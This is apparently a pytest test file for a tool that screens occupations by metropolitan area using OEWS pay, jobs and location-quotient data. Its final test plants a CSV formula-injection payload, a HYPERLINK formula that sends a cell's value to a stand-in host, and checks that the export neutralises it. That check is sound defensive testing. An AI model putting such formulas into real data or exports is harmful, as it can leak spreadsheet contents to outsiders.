"""`analysis.sections.explore` screening by an area's OEWS pay, jobs and location quotient, on the real tables.

The expected screens are computed here with plain pandas from ``projections`` and ``wages``; Houston's 3,680
jobs and $51,250 median for 29-2072 are the figures issue 17 names. (The notebook itself is executed with an
area example in tests/test_notebooks.py.)
"""

from __future__ import annotations

import io
import math

import pandas as pd
import pytest
from helpers import replace_raw

from analysis import notebooks
from analysis.errors import ParameterError
from analysis.sections.explore import Explorer
from analysis.tables import dataset, store


def latest(real) -> tuple[pd.DataFrame, pd.DataFrame]:
    proj = store.table("projections", real)
    d = proj[(proj.vintage == store.vintages(real)[0]) & (proj.soc_level == "detailed")]
    w = store.table("wages", real)
    return d, w[w.wage_year == w.wage_year.max()]


def area_rows(real, code: str) -> pd.DataFrame:
    d, w = latest(real)
    return d.merge(w[w.area_code == code][["soc_code", "employment_people", "annual_median_usd",
                                           "annual_median_usd_top_coded", "hourly_median_usd",
                                           "location_quotient"]], on="soc_code")


def html(section) -> str:
    return section.html if hasattr(section, "html") else str(section)


def test_houston_figures_in_the_screen(real):
    e = Explorer(area="Houston", paths=real)
    assert e.area == "26420" and e.area_info["area_title"] == "Houston-Pasadena-The Woodlands, TX"
    row = e.result.set_index("soc_code").loc["29-2072"]
    assert (row.area_employment_people, row.area_annual_median_usd, row.area_location_quotient) == (3_680, 51_250, 0.89)
    assert (row.area_code, row.area_wage_year, row.area_jobs_per_1000) == ("26420", 2025, 1.117)
    assert (row.change_percent, row.openings_per_year) == (7.1, 14_200)  # growth and openings stay national


def test_area_screen_equals_a_pandas_filter(real):
    """Every criterion on the area's figures, ranked by the area's jobs: the occupations and order pandas gives."""
    e = Explorer(area="26420", major_group="29", min_pay=50_000, min_location_quotient=1.0, sort_by="employment",
                 paths=real)
    d = area_rows(real, "26420")
    want = d[(d.major_group_code == "29-0000") & (d.annual_median_usd >= 50_000) & (d.location_quotient >= 1.0)]
    want = want.sort_values(["employment_people", "soc_code"], ascending=[False, True], na_position="last")
    assert len(want) > 5
    assert e.result.soc_code.tolist() == want.soc_code.tolist()
    assert e.result.area_employment_people.tolist() == want.employment_people.tolist()
    assert (e.result.area_location_quotient >= 1.0).all() and (e.result.area_annual_median_usd >= 50_000).all()


def test_an_occupation_without_an_estimate_in_the_area_is_left_out(real):
    e = Explorer(area="26420", paths=real)
    d, w = latest(real)
    published = set(w.loc[w.area_code == "26420", "soc_code"])
    assert set(e.result.soc_code) == set(d.soc_code) & published
    assert len(e.result) < len(d)


def test_suppressed_values_stay_missing_meet_no_minimum_and_sort_last(real):
    """Houston's 11-9039 (education administrators, all other): jobs and location quotient suppressed ('**')."""
    e = Explorer(area="26420", sort_by="employment", top=200, paths=real)
    r = e.result.set_index("soc_code")
    assert pd.isna(r.loc["11-9039", "area_employment_people"])
    assert math.isnan(r.loc["11-9039", "area_location_quotient"])
    assert r.loc["11-9039", "area_annual_median_usd"] == 62_450
    jobs = e.result.area_employment_people
    assert jobs.isna().any() and jobs[jobs.notna()].is_monotonic_decreasing
    assert jobs.isna().idxmax() == jobs.notna().sum()  # every missing value after every published one
    assert "11-9039" not in set(Explorer(area="26420", min_location_quotient=0, paths=real).result.soc_code)
    managers = Explorer(area="26420", major_group="11", sort_by="employment", top=200, paths=real)
    unpublished = managers.result[managers.result.area_employment_people.isna()]
    assert "11-9039" in set(unpublished.soc_code) and unpublished.index.min() == len(managers.result) - len(unpublished)
    row = html(managers.ranked()).split("(11-9039)</td>", 1)[1].split("</tr>", 1)[0]
    assert row.count('<td class="num">not published</td>') == 2  # jobs and location quotient
    assert '<td class="num">$62,450</td>' in row


def test_top_coded_median_is_shown_as_at_least_and_sorted_by_its_bound(real):
    """Anchorage (11260): anesthesiologists' median is top-coded ('#', at least $239,200)."""
    e = Explorer(area="11260", major_group="29", sort_by="pay", paths=real)
    r = e.result.set_index("soc_code")
    assert r.loc["29-1211", "area_annual_median_top_coded"] and r.loc["29-1211", "area_annual_median_usd"] == 239_200
    pays = e.result.area_annual_median_usd
    assert pays[pays.notna()].is_monotonic_decreasing
    assert "at least $239,200" in html(e.ranked())
    assert Explorer(area="11260", min_pay=239_200, paths=real).result.area_annual_median_top_coded.any()


def test_hourly_only_occupation_shows_its_hourly_median(real):
    e = Explorer(area="26420", major_group="27", top=200, paths=real)
    r = e.result.set_index("soc_code")
    assert math.isnan(r.loc["27-2031", "area_annual_median_usd"])
    assert r.loc["27-2031", "area_hourly_median_usd"] == 35.31
    assert "$35.31 an hour" in html(e.ranked())


def test_nonmetropolitan_area(real):
    e = Explorer(area="Northwest Alabama", paths=real)
    assert e.area == "0100001"
    row = e.result.set_index("soc_code").loc["29-2072"]
    assert (row.area_employment_people, row.area_annual_median_usd) == (110, 49_970)


def test_area_sections_name_the_area(real):
    e = Explorer(area="Houston", min_location_quotient=1.5, top=5, paths=real)
    title = "Houston-Pasadena-The Woodlands, TX"
    assert f"pay and jobs in {title} (OEWS May 2025)" in html(e.header())
    summary = html(e.summary())
    assert f"location quotient in {title} of at least 1.50" in summary
    assert f"with an OEWS estimate for {title}" in summary
    ranked = html(e.ranked())
    assert "Location quotient</th>" in ranked and f"Jobs, median annual pay and location quotient: {title}" in ranked
    assert "area=26420, min_location_quotient=1.5" in html(e.sources())
    assert "<svg" in html(e.chart())


def test_csv_has_the_area_columns_not_the_internal_ones(real):
    e = Explorer(area="26420", top=5, paths=real)
    got = pd.read_csv(io.StringIO(e.to_csv()), dtype={"soc_code": str, "area_code": str})
    assert len(got) == len(e.result) > e.top
    assert {"area_code", "area_title", "area_employment_people", "area_annual_median_usd",
            "area_location_quotient", "area_jobs_per_1000"} <= set(got.columns)
    assert not {"pay_usd", "employment_people", "location_quotient"} & set(got.columns)
    assert got.set_index("soc_code").loc["29-2072", "area_annual_median_usd"] == 51_250


def test_state_screen_keeps_its_columns_and_can_filter_by_location_quotient(real):
    e = Explorer(state="TX", min_location_quotient=1.2, paths=real)
    assert "area_code" not in e.result.columns and "state_location_quotient" in e.result.columns
    assert len(e.result) and (e.result.state_location_quotient >= 1.2).all()
    assert "Location quotient</th>" not in html(e.ranked())


def test_bad_area_parameters(real):
    with pytest.raises(ParameterError, match=r"^area 'Springfield' matches 5 areas"):
        Explorer(area="Springfield", paths=real)
    with pytest.raises(ParameterError, match=r"^area 26420 \(Houston-Pasadena-The Woodlands, TX\) lies in TX, not "
                                             r"in state CA"):
        Explorer(area="26420", state="CA", paths=real)
    with pytest.raises(ParameterError, match=r"^min_location_quotient 1\.0: needs a state or an area"):
        Explorer(min_location_quotient=1.0, paths=real)
    with pytest.raises(ParameterError, match=r"^min_location_quotient -1"):
        Explorer(area="26420", min_location_quotient=-1, paths=real)
    assert Explorer(area="26420", state="TX", paths=real).area == "26420"  # in its state: fine


# --- the notebook's parameters, checked before a kernel starts ----------------------------------------------

@pytest.fixture(scope="module")
def explore_spec(real):
    return notebooks.find("explore_occupations", real)


def test_notebook_declares_area_parameters(explore_spec):
    area, lq = explore_spec.params["area"], explore_spec.params["min_location_quotient"]
    assert (area.type, area.default) == ("Optional[str]", "None") and area.help
    assert (lq.type, lq.default) == ("Optional[float]", "None") and lq.help
    assert any("area" in ex for ex in explore_spec.examples)


def test_notebook_area_is_validated_and_normalised(explore_spec, real):
    assert notebooks.validate(explore_spec, {"area": "Houston"}, real) == {"area": "26420"}
    assert notebooks.validate(explore_spec, {"area": "26420", "state": "tx", "min_location_quotient": "1"},
                              real) == {"area": "26420", "state": "TX", "min_location_quotient": 1.0}
    with pytest.raises(ParameterError, match="matches 5 areas"):
        notebooks.validate(explore_spec, {"area": "Springfield"}, real)
    with pytest.raises(ParameterError, match=r"lies in TX, not in state CA"):
        notebooks.validate(explore_spec, {"area": "Houston", "state": "CA"}, real)
    with pytest.raises(ParameterError, match=r"^min_location_quotient 1\.5: needs a state or an area"):
        notebooks.validate(explore_spec, {"min_location_quotient": "1.5"}, real)
    with pytest.raises(ParameterError, match=r"^min_location_quotient -2\.0"):
        notebooks.validate(explore_spec, {"area": "26420", "min_location_quotient": "-2"}, real)


@pytest.mark.slow
def test_results_csv_text_never_becomes_a_formula(tmp_project):
    """A metropolitan area titled like a formula (a data file can hold one) lands in results.csv as text: every
    text cell starting with =, +, -, @, a tab or a carriage return is prefixed with ', numbers are left as they are."""
    p = tmp_project
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Houston")'

    def edit(header, row):
        if row[header.index("AREA")] == "26420":
            row[header.index("AREA_TITLE")] = formula
        return row

    replace_raw(p, "bls-oews/2025/oews_metro_M2025.csv.gz", edit)
    dataset.run(p)
    e = Explorer(area="26420", paths=p)
    assert e.area_info["area_title"] == formula  # the data keeps the title as published
    e.result.loc[e.result.index[0], "title"] = "@SUM(A1:A9)"  # an occupation's title too: every text column
    e.result.loc[e.result.index[1], "title"] = "\tTab"
    got = pd.read_csv(io.StringIO(e.to_csv()), dtype={"soc_code": str, "area_code": str})
    assert set(got["area_title"]) == {"'" + formula}
    assert got["title"].iloc[0] == "'@SUM(A1:A9)" and got["title"].iloc[1] == "'\tTab"
    text = [c for c in got.columns if got[c].dtype.kind == "O"]
    assert not got[text].apply(lambda c: c.str.match(r"[=+\-@\t\r]")).any().any()
    assert pd.api.types.is_float_dtype(got["change_percent"]) and (got["change_percent"] < 0).any()
